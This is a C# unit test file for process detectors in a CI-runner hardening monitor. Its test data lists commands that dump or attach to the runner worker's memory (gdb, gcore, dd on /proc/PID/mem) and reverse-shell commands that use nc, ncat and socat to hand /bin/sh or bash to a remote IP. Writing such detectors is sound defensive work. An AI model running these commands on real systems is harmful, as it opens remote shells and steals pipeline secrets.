using HardenRunner.Monitoring;
using HardenRunner.Monitoring.Detectors;

namespace HardenRunner.Tests.Monitoring;

/// <summary>The command-line parts of the process detectors, without processes.</summary>
public class ProcessDetectorUnitTests
{
    [Theory]
    [InlineData("gdb -p 4321 -batch -ex detach")]
    [InlineData("gcore 4321")]
    [InlineData("strace --attach 4321")]
    [InlineData("dotnet-dump collect --process-id 4321")]
    [InlineData("python3 memdump.py /proc/4321/mem")]
    [InlineData("dd if=/proc/4321/task/4330/mem bs=1 skip=4096 count=64")]
    [InlineData("createdump 4321")]
    public void MemoryRead_CommandLinePointsAtWorker_Found(string cmdline)
    {
        var runner = new RunnerProcesses(["Runner.Worker"], ["Runner.Worker", "Runner.Listener"]);
        runner.Observe(4321, "Runner.Worker", "/home/runner/bin/Runner.Worker");
        using var detector = new RunnerMemoryReadDetector(runner, _ => { }, useFanotify: false);
        var f = detector.Inspect(Exec(cmdline));
        Assert.NotNull(f);
        Assert.Equal("runner-memory-read", f.Type);
        Assert.Equal("command-line", f.Evidence["method"]);
        Assert.Equal("4321", f.Evidence["targetPid"]);
    }

    [Theory]
    [InlineData("gdb -p 1234")]                 // another process
    [InlineData("sleep 4321")]                  // the pid as an argument of a harmless program
    [InlineData("cat /proc/4321/status")]
    [InlineData("ps -p 4321 -o rss")]
    public void MemoryRead_Unrelated_Nothing(string cmdline)
    {
        var runner = new RunnerProcesses(["Runner.Worker"], ["Runner.Worker"]);
        runner.Observe(4321, "Runner.Worker", "/home/runner/bin/Runner.Worker");
        using var detector = new RunnerMemoryReadDetector(runner, _ => { }, useFanotify: false);
        Assert.Null(detector.Inspect(Exec(cmdline)));
    }

    [Fact]
    public void MemoryRead_PtraceOfWorker_ReportedOnceDetachIgnored()
    {
        var runner = new RunnerProcesses(["Runner.Worker"], ["Runner.Worker"]);
        runner.Observe(4321, "Runner.Worker", null);
        var found = new List<Finding>();
        using var detector = new RunnerMemoryReadDetector(runner, found.Add, useFanotify: false);
        detector.OnPtrace(4321, 777);
        detector.OnPtrace(4321, 0);    // detach
        detector.OnPtrace(999, 777);   // not the runner
        var f = Assert.Single(found);
        Assert.Equal(777, f.Pid);
        Assert.Equal("ptrace-attach", f.Evidence["method"]);
    }

    [Fact]
    public void RunnerProcesses_RecognisedByCommOrExe_ForgottenWhenPidExecsSomethingElse()
    {
        var runner = new RunnerProcesses(["Runner.Worker"], ["Runner.Worker", "Runner.Listener"]);
        var added = new List<int>();
        var removed = new List<int>();
        runner.ProtectedAdded += added.Add;
        runner.ProtectedRemoved += removed.Add;
        runner.Observe(10, "Runner.Worker", null);
        runner.Observe(11, "dotnet", "/opt/runner/bin/Runner.Listener");
        runner.Observe(12, "bash", "/usr/bin/bash");
        Assert.True(runner.IsWorker(10));
        Assert.False(runner.IsWorker(11));
        Assert.True(runner.IsProtected(11));
        Assert.False(runner.IsProtected(12));
        runner.Observe(10, "sh", "/bin/sh"); // exec'd something else
        runner.OnExit(11);
        Assert.False(runner.IsWorker(10));
        Assert.Equal([10, 11], added);
        Assert.Equal([10, 11], removed);
    }

    [Theory]
    [InlineData("nc", "nc -e /bin/sh 10.0.0.1 4444", true)]
    [InlineData("ncat", "ncat --sh-exec \"bash -i\" 10.0.0.1 4444", true)]
    [InlineData("nc", "nc -lvnpe /bin/sh 4444", true)]
    [InlineData("socat", "socat TCP:10.0.0.1:4444 EXEC:/bin/bash", true)]
    [InlineData("nc", "nc -zv db 5432", false)]
    [InlineData("socat", "socat TCP-LISTEN:8080,fork TCP:backend:80", false)]
    public void ReverseShell_NetcatHandingAProgramToTheNetwork(string name, string cmdline, bool expected)
    {
        Assert.Equal(expected, ReverseShellDetector.HandsProgramToNetwork(name, CommandLine.Split(cmdline)));
    }

    [Fact]
    public void ReverseShell_ShellWithSocketThatIsNotInet_Nothing()
    {
        var shell = new ProcessEntry(50, 1, "/usr/bin/bash", "bash -i", "bash", 0, 0, DateTimeOffset.UnixEpoch, StepEnvironment.Absent, true);
        Assert.Null(ReverseShellDetector.Inspect(new ExecObservation(shell, 99, 99, DateTimeOffset.UnixEpoch), (_, _) => null));
        var hit = ReverseShellDetector.Inspect(
            new ExecObservation(shell, 99, 0, DateTimeOffset.UnixEpoch),
            (_, _) => new InetSocket("tcp", new(System.Net.IPAddress.Loopback, 40000), new(System.Net.IPAddress.Parse("203.0.113.9"), 4444), 1));
        Assert.Equal("203.0.113.9:4444", hit?.Evidence["remote"]);
        Assert.Equal("stdin", hit?.Evidence["descriptors"]);
    }

    [Fact]
    public void ProcessTable_ExitGraceThenSweep_CapacityEvictsExitedFirst()
    {
        var t0 = DateTimeOffset.UnixEpoch;
        var table = new ProcessTable(capacity: 16, exitGrace: TimeSpan.FromSeconds(60));
        for (var pid = 1; pid <= 16; pid++)
        {
            table.Put(new ProcessEntry(pid, 0, "/bin/x", "x", "x", 0, 0, t0.AddSeconds(pid), StepEnvironment.Absent, true));
        }

        table.OnExit(5, t0.AddSeconds(100));
        Assert.Equal(0, table.Sweep(t0.AddSeconds(159)));
        Assert.True(table.TryGet(5, out var exited) && exited.Exited is not null); // still attributable in the grace period

        table.Put(new ProcessEntry(17, 0, "/bin/y", "y", "y", 0, 0, t0.AddSeconds(200), StepEnvironment.Absent, true)); // full: evicts exited 5
        Assert.False(table.TryGet(5, out _));
        Assert.True(table.TryGet(1, out _));
        Assert.Equal(1, table.Evicted);

        var child = table.OnFork(17, 18, t0.AddSeconds(201)); // forked child runs its parent's program
        Assert.Equal(("/bin/y", 17, false), (child.Exe, child.Ppid, child.Execed));
        table.OnExit(18, t0.AddSeconds(202));
        Assert.Equal(1, table.Sweep(t0.AddSeconds(262)));
    }

    private static ExecObservation Exec(string cmdline)
    {
        var args = CommandLine.Split(cmdline);
        var exe = "/usr/bin/" + args[0];
        var p = new ProcessEntry(9000, 1, exe, cmdline, args[0], 1001, 1001, DateTimeOffset.UnixEpoch, StepEnvironment.Absent, true);
        return new ExecObservation(p, 0, 0, DateTimeOffset.UnixEpoch);
    }
}
